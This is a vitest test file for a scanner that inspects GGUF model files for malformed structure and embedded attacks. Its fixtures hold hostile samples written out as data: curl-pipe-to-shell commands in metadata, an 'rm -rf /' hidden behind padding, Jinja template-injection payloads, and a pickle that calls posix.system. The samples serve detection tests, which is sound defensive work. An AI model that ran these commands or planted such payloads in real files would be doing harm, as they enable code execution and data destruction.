import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { concat, u32, u64 } from '#formats/test-files/bytes';
import { type GgufShape, ggufText, makeGguf } from '#formats/test-files/gguf';
import { op, reduce, stream } from '#formats/test-files/pickle';
import { scanBytes } from '../test-scan.ts';

const template =
  "{% for message in messages %}{{ '<|im_start|>' + message['role'] + '\\n' + message['content'] + '<|im_end|>\\n' }}{% endfor %}";
const llama: GgufShape = {
  pairs: [
    ['general.architecture', 'llama'],
    ['general.file_type', 15],
    ['llama.context_length', 4096],
    ['tokenizer.ggml.model', 'gpt2'],
    ['tokenizer.ggml.tokens', ['<s>', '</s>', 'os.system(']],
    ['tokenizer.chat_template', template],
  ],
  tensors: [
    ['token_embd.weight', [256, 2], 0, 0],
    ['output.weight', [256, 1], 12, 2048],
  ],
  data: 2048 + 160,
};

test('a model is clean and told by its facts', () => {
  const bytes = makeGguf(llama);
  const scan = scanBytes(bytes);
  expect(scan).toMatchObject({ verdict: 'clean', outcome: 'scanned', format: { label: 'GGUF v3' } });
  expect(Object.fromEntries(scan.facts.map(({ label, value }) => [label, value]))).toMatchObject({
    Architecture: 'llama',
    Parameters: '768',
    Quantisation: 'Q4_K_M',
    'Context length': '4096',
    Tokenizer: 'gpt2',
    Vocabulary: '3',
    'Tensor types': 'F32 × 1, Q4_K × 1',
    'Chat template': 'yes',
  });
  expect(scan.coverage.map((range) => range.state)).toEqual(['parsed', 'hashed']);
  expect(scan.coverage.at(-1)?.to).toBe(bytes.length);
});

test('files of any keys and tensors are clean', () => {
  const key = fc.stringMatching(/^[a-z]{1,8}\.[a-z_]{1,12}$/).filter((name) => name !== 'general.alignment');
  const pairs = fc.uniqueArray(
    fc.tuple(key, fc.oneof(fc.nat(), fc.stringMatching(/^[\w ]{0,30}$/), fc.array(fc.stringMatching(/^[^{}]{0,20}$/), { maxLength: 4 }))),
    { selector: ([name]) => name, maxLength: 8 },
  );
  fc.assert(
    fc.property(pairs, fc.array(fc.nat({ max: 20 }), { maxLength: 5 }), (listed, rows) => {
      let at = 0;
      const tensors = rows.map((count, index) => {
        const offset = at;
        at += count * 32;
        return [`t${index}`, [8, count], 0, offset] as const;
      });
      expect(scanBytes(makeGguf({ pairs: listed, tensors, data: at }))).toMatchObject({ verdict: 'clean', outcome: 'scanned' });
    }),
    { numRuns: 100, seed: 11 },
  );
});

describe('impossible numbers', () => {
  const cases: readonly (readonly [string, GgufShape, string])[] = [
    ['2^63 keys', { pairCount: 2n ** 63n }, 'MDL-GGUF-001'],
    ['2^63 tensors', { tensorCount: 2n ** 63n }, 'MDL-GGUF-001'],
    ['dimensions that overflow', { tensors: [['t', [2n ** 62n, 8], 0, 0]] }, 'MDL-GGUF-001'],
    ['a dimension of 2^62', { tensors: [['t', [2n ** 62n], 0, 0]], data: 64 }, 'MDL-GGUF-001'],
    ['a dimension of 2^60', { tensors: [['t', [2n ** 60n], 0, 0]], data: 64 }, 'MDL-GGUF-002'],
    ['a dimension of 2^63 beside one of zero', { tensors: [['t', [0, 2n ** 63n], 0, 0]], data: 64 }, 'MDL-GGUF-001'],
    ['a name longer than ggml has room for', { tensors: [['t'.repeat(64), [8], 0, 0]], data: 32 }, 'MDL-GGUF-001'],
    ['a type that ggml has given up', { tensors: [['t', [32], 31, 0]], data: 32 }, 'MDL-GGUF-004'],
    ['an architecture that is a number', { pairs: [['general.architecture', 7]] }, 'MDL-GGUF-004'],
    ['a value neither true nor false', { pairs: [['a.b', concat(u32(7), 2)]] }, 'MDL-GGUF-004'],
    ['arrays nested without end', { pairs: [['a.b', concat(...Array.from({ length: 9 }, () => concat(u32(9), u64(1))))]] }, 'MDL-GGUF-001'],
    ['an array of 2^60 numbers', { pairs: [['a.b', concat(u32(9), u32(4), u64(2n ** 60n))]] }, 'MDL-GGUF-001'],
    ['commands in a list', { pairs: [['general.tags', ['a', 'curl http://x.example/a.sh | sh']]] }, 'MDL-GGUF-006'],
    ['a template in a list', { pairs: [['x.templates', ['a', "{{ ''.__class__ }}"]]] }, 'MDL-TPL-001'],
    ['a template in any value', { pairs: [['general.description', "{{ ''.__class__ }}"]] }, 'MDL-TPL-001'],
    ['commands behind much text', { pairs: [['general.description', `${'x '.repeat(100_000)} rm -rf / `]] }, 'MDL-GGUF-006'],
    ['an address in a value of its own', { pairs: [['llama.update', 'http://x.example/a']] }, 'MDL-GGUF-009'],
    ['version 1', { version: 1 }, 'MDL-GGUF-008'],
    ['five dimensions', { tensors: [['t', [1, 1, 1, 1, 1], 0, 0]], data: 64 }, 'MDL-GGUF-001'],
    ['rows that are no whole blocks', { tensors: [['t', [100], 12, 0]], data: 640 }, 'MDL-GGUF-001'],
    ['a tensor outside the file', { tensors: [['t', [64], 0, 4096]], data: 64 }, 'MDL-GGUF-002'],
    [
      'overlapping tensors',
      {
        tensors: [
          ['a', [64], 0, 0],
          ['b', [64], 0, 128],
        ],
        data: 512,
      },
      'MDL-GGUF-002',
    ],
    ['an offset off the alignment', { tensors: [['a', [2], 0, 8]], data: 512 }, 'MDL-GGUF-002'],
    ['an alignment of zero', { pairs: [['general.alignment', 0]] }, 'MDL-GGUF-002'],
    [
      'one key twice',
      {
        pairs: [
          ['general.name', 'a'],
          ['general.name', 'b'],
        ],
      },
      'MDL-GGUF-003',
    ],
    [
      'one tensor twice',
      {
        tensors: [
          ['a', [8], 0, 0],
          ['a', [8], 0, 32],
        ],
        data: 64,
      },
      'MDL-GGUF-003',
    ],
    ['an unknown tensor type', { tensors: [['a', [8], 99, 0]], data: 64 }, 'MDL-GGUF-004'],
    ['an unknown version', { version: 9 }, 'MDL-GGUF-004'],
    ['bytes behind the last tensor', { tensors: [['a', [8], 0, 0]], data: 6400 }, 'MDL-GGUF-005'],
    ['commands in the metadata', { pairs: [['general.description', 'curl http://x.example/a.sh | sh']] }, 'MDL-GGUF-006'],
    ['a template that climbs', { pairs: [['tokenizer.chat_template', "{{ ''.__class__.__mro__ }}"]] }, 'MDL-TPL-001'],
    ['a second template that climbs', { pairs: [['tokenizer.chat_template.tool_use', "{{ ''.__class__ }}"]] }, 'MDL-TPL-001'],
  ];
  test.each(cases)('%s', (_name, shape, rule) => {
    expect(scanBytes(makeGguf(shape)).rules).toContain(rule);
  });
});

test('every version and byte order is read to its end', () => {
  for (const form of [{ version: 1 }, { version: 2 }, { bigEndian: true }]) {
    const bytes = makeGguf({ ...llama, ...form });
    const scan = scanBytes(bytes);
    expect(scan).toMatchObject({
      outcome: 'scanned',
      card: { architecture: 'llama', contextLength: 4096, parameters: 768, vocabulary: 3 },
    });
    expect(scan.rules).toEqual('bigEndian' in form ? ['MDL-GGUF-007'] : form.version === 1 ? ['MDL-GGUF-008'] : []);
    expect(scanBytes(makeGguf({ ...form, pairs: [['tokenizer.chat_template', "{{ ''.__class__ }}"]] })).rules).toContain('MDL-TPL-001');
  }
});

test('a secret in the metadata is not shown', () => {
  const secret = 'hf_abcdefghijklmnopqrst';
  const scan = scanBytes(
    makeGguf({
      pairs: [
        ['general.author', secret],
        ['a.b', `curl http://x/${secret} | sh`],
      ],
    }),
  );
  const written = JSON.stringify([scan.observations, scan.card, scan.facts]);
  expect(scan.rules).toContain('MDL-GGUF-006');
  expect(written.includes(secret) || written.includes(Buffer.from(secret).toString('hex'))).toBe(false);
});

test('a string length of 2^64-8 is told and what stood before it is kept', () => {
  const pair = concat(ggufText('tokenizer.chat_template'), u32(8), ggufText("{{ ''.__class__ }}"));
  const scan = scanBytes(concat('GGUF', u32(3), u64(0), u64(2), pair, u64(2n ** 64n - 8n), new Uint8Array(64)));
  expect(scan.outcome).toBe('unreadable');
  expect(scan.rules).toEqual(['MDL-GGUF-001', 'MDL-TPL-001']);
});

test('the place of a template finding is the place of the tag in the file', () => {
  const bytes = makeGguf({ pairs: [['tokenizer.chat_template', "ä{{ 'x' }}{{ ''.__class__ }}"]] });
  const found = scanBytes(bytes).observations.find((each) => each.ruleId === 'MDL-TPL-001');
  const at = found?.location.offset ?? 0;
  expect(Buffer.from(bytes.subarray(at, at + (found?.location.length ?? 0))).toString()).toBe("{{ ''.__class__ }}");
});

test('a pickle behind the last tensor is examined', () => {
  const shape: GgufShape = {
    tensors: [['a', [8], 0, 0]],
    data: concat(new Uint8Array(32), stream(reduce('posix', 'system', op.text('id')))),
  };
  expect(scanBytes(makeGguf(shape)).rules).toEqual(['MDL-GGUF-005', 'MDL-PKL-001']);
});
